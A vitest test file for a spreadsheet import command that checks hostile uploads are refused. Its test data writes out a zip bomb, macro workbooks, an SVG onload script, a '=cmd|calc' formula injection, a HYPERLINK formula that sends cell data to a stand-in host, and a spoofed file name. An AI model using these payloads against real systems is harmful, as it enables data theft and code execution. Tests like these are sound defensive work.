import { mkdtemp, rm, truncate, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { closePools } from '@/db/client'
import { bookStream, compoundOf } from '@/db/testing/compound'
import { type Office, openOffice } from '@/db/testing/office'
import { encode } from '@/domain/import/testing/encode'
import { bookOf, packedOver, partsOf, zipOf } from '@/domain/import/testing/zip'
import { importFile } from './import-file'

let office: Office
let folder: string
beforeAll(async () => {
  office = await openOffice()
  folder = await mkdtemp(join(tmpdir(), 'zhaoshang-import-'))
})
beforeEach(() => office.owner`delete from import_mappings`)
afterAll(async () => {
  await closePools()
  await office.owner.end()
  await rm(folder, { recursive: true })
})

type Said = { rows: number; created: number; errors: { row: number; column: string; reason: string }[] }

/** What the command prints with --json, and that it left nothing behind but what it says. */
async function brought(name: string, bytes: Uint8Array | string, ...more: string[]): Promise<Said> {
  const path = join(folder, name)
  await writeFile(path, bytes)
  return json(path, ...more)
}
async function json(path: string, ...more: string[]): Promise<Said> {
  const noun = more.includes('deals') ? 'deals' : 'companies'
  const rest = more.filter(word => word !== 'deals')
  const as = rest.includes('--as') ? [] : ['--as', 'director']
  const { text, right } = await importFile([noun, path, ...as, '--json', ...rest])
  const said = JSON.parse(text) as Said
  expect(right).toBe(said.errors.length === 0)
  expect(
    await office.owner`select 1 from import_files f join imports i on i.id = f.import_id where i.state <> 'applied'`,
  ).toEqual([])
  if (!right) expect(await office.owner`select 1 from companies where name like '坏%'`).toEqual([])
  return said
}

const heads = ['企业名称', '国家/地区']
const csv = (...rows: string[][]) => rows.map(row => row.join(',')).join('\n')
const cells = (...texts: string[]) =>
  `<row>${texts.map(text => `<c t="inlineStr"><is><t>${text}</t></is></c>`).join('')}</row>`
const inside = (...rows: string[]) => `<sheetData>${rows.join('')}</sheetData>`
const sheet = inside(cells(...heads), cells('坏甲', '中国'))
const sound = bookOf({ sheets: [sheet] })
const withPart = (more: Record<string, string>) => zipOf({ ...partsOf({ sheets: [sheet] }), ...more })
const part = 'xl/worksheets/sheet1.xml'
const bomb = (size: number) =>
  zipOf({
    ...partsOf({ sheets: [sheet] }),
    [part]: { packed: packedOver('<row/>'.repeat(170_000), 3_000), size },
  })
const wide = bookOf({
  sheets: [inside(cells(...heads, ...Array.from({ length: 498 }, (_, at) => `列${at}`)))],
})
const types = (type: string) => ({
  '[Content_Types].xml': `<Types><Override ContentType="application/vnd.ms-excel.${type}+xml"/></Types>`,
})

test.each<[string, string, Uint8Array | string, RegExp]>([
  ['three gigabytes in three megabytes', '炸弹.xlsx', bomb(3_060_000_000), /解开后超过 160 MB/],
  ['the same, told as ten megabytes', '炸弹.xlsx', bomb(10_000_000), /已损坏/],
  ['a workbook with macros', '宏.xlsm', sound, /带有宏/],
  ['the same under another name', '宏.xlsx', withPart(types('sheet.macroEnabled.main')), /带有宏/],
  ['macros of Excel 4.0', '宏.xlsx', withPart({ 'xl/macrosheets/sheet1.xml': '<x/>' }), /带有宏/],
  ['those in a binary workbook', '宏.xlsb', withPart({ 'xl/macrosheets/sheet1.bin': 'x' }), /带有宏|\.xlsb/],
  ['an old workbook with macros', '宏.xls', compoundOf({ Workbook: bookStream([0, 1]) }), /旧格式/],
  ['a program', '名录.xlsx', 'MZ\u0090\0\u0003', /不是表格文件/],
  ['lines as a workbook', '名录.xlsx', csv(heads, ['坏甲', '中国']), /文件名与内容不符/],
  ['a drawing with a script', '名录.csv', '<svg onload="alert(1)"/>', /网页/],
  ['five hundred columns', '宽.xlsx', wide, /列数超过 256/],
  ['a column twice', '重.csv', csv([...heads, '国家/地区'], ['坏甲', '中国', '日本']), /同一列出现两次/],
  ['letters of nobody', '乱.csv', Buffer.from([0xb0, 0xa1, 0xb0, 0xa2, 0x2c, 0x31]), /看不出.*GB18030/],
  ['nothing', '空.csv', '', /文件是空的/],
])('%s is refused in words, and nothing stays of it', async (_, name, bytes, reason) => {
  const before = process.resourceUsage().maxRSS
  const said = await brought(name, bytes)
  expect(said).toMatchObject({
    rows: 0,
    created: 0,
    errors: [{ row: 0, reason: expect.stringMatching(reason) }],
  })
  expect(process.resourceUsage().maxRSS - before).toBeLessThan(250_000)
})

test('a file of two hundred megabytes is not even opened', async () => {
  const path = join(folder, '大.xlsx')
  await writeFile(path, '')
  await truncate(path, 200 * 1024 ** 2)
  const before = process.resourceUsage().maxRSS
  expect((await json(path)).errors).toMatchObject([{ reason: expect.stringMatching(/太大，最多 30 MB/) }])
  expect(process.resourceUsage().maxRSS - before).toBeLessThan(50_000)
})

test('cells that are wrong are named one by one, and hold the whole file', async () => {
  const formulas = inside(
    cells(...heads),
    `<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://x.example/?"&amp;B2)</f><v>坏乙</v></c><c r="B2"><f>NOW()</f></c></row>`,
    cells('=cmd|calc', '中国'),
  )
  expect((await brought('公式.xlsx', bookOf({ sheets: [formulas] }))).errors).toMatchObject([
    { row: 2, column: '国家/地区', reason: expect.stringMatching(/公式没有保存结果/) },
    { row: 3, column: '企业名称', reason: expect.stringMatching(/公式，不予导入/) },
  ])
  const money = csv(
    ['项目名称', '企业名称', '国家/地区', '总投资', '部门', '行业', '来源'],
    ['坏丙', '坏丙公司', '日本', '350万泰铢', '内资部', '装备制造', '自主'],
  )
  const told = await brought('币种.csv', money, 'deals')
  expect(told.errors).toContainEqual(
    expect.objectContaining({
      row: 2,
      column: '总投资',
      reason: expect.stringMatching(/不认识的币种.*泰铢/),
    }),
  )
})

test('a name that is not on file is answered with the nearest that is', async () => {
  const ledger = csv(
    ['项目名称', '企业名称', '国家/地区', '部门', '负责人', '行业', '来源', '责任领导', '预计批准日期'],
    ['坏己', '坏己公司', '日本', '日韩处', 'officer', '装备', '自主', '王书记', '2026-09-30'],
  )
  const told = await brought('近名.csv', ledger, 'deals')
  expect(told.errors).toEqual([
    expect.objectContaining({ column: '行业', reason: '没有登记“装备”。相近的有：装备制造。' }),
    expect.objectContaining({ column: '部门', reason: '没有登记“日韩处”。相近的有：日韩部。' }),
  ])
  const right = ledger.replace('日韩处', '内资部').replace('装备', '装备制造').replaceAll('坏己', '好己')
  expect(await brought('近名.csv', right, 'deals')).toMatchObject({ created: 1, errors: [] })
  expect(
    await office.owner`select leader_name, approval_expected_on::text as day from deals where name = '好己'`,
  ).toEqual([{ leader_name: '王书记', day: '2026-09-30' }])
})

test('a value that was saved is taken, of a formula into another file too, and nothing is fetched', async () => {
  const linked = inside(
    cells(...heads),
    `<row r="2"><c r="A2" t="str"><f>[1]Sheet1!A1</f><v>引来公司</v></c><c r="B2" t="inlineStr"><is><t>中国</t></is></c></row>`,
  )
  const link =
    '<Relationships><Relationship Id="r" Target="http://127.0.0.1:9/x.xlsx" TargetMode="External"/></Relationships>'
  const parts = { ...partsOf({ sheets: [linked] }), 'xl/externalLinks/_rels/externalLink1.xml.rels': link }
  const answer = await brought('引用.xlsx', zipOf(parts), '--dry-run')
  expect(await office.owner`select linked from imports order by id desc limit 1`).toEqual([{ linked: 1 }])
  expect(answer).toMatchObject({
    rows: 1,
    created: 1,
    errors: [],
  })
})

test('a name full of tricks is kept as a plain one', async () => {
  await brought('CON\u202e.csv', csv(heads, ['坏丁', '亚特兰蒂斯']))
  const [row] = await office.owner`select file_name, state from imports order by id desc limit 1`
  expect(row).toEqual({ file_name: '_CON.csv', state: 'discarded' })
})

test('an encoding is said, by whatever it is called', async () => {
  const bytes = encode(csv(heads, ['远洋公司', '中国']), 'gb18030')
  expect(await brought('a.csv', bytes, '--dry-run', '--encoding', 'GBK')).toMatchObject({ created: 1 })
  expect((await brought('a.csv', bytes, '--encoding', 'utf-8')).errors).toMatchObject([
    { reason: expect.stringMatching(/不是 UTF-8 编码/) },
  ])
  expect((await brought('a.csv', bytes, '--encoding', 'morse')).errors).toMatchObject([
    { reason: expect.stringContaining('--encoding takes UTF-8, UTF-16 LE') },
  ])
})

test('who may not, who is not there, and a file that is not there', async () => {
  for (const [as, reason] of [
    ['viewer', 'viewer may not import companies.'],
    ['nobody', 'There is no account nobody, or it is disabled.'],
  ] as const)
    expect((await brought('a.csv', csv(heads, ['坏戊', '中国']), '--as', as)).errors).toMatchObject([
      { reason },
    ])
  expect((await json(join(folder, 'none.csv'))).errors[0]?.reason).toMatch(/There is no file/)
  await expect(importFile(['companies', join(folder, 'none.csv'), '--as', 'director'])).rejects.toThrow(
    'no file',
  )
})
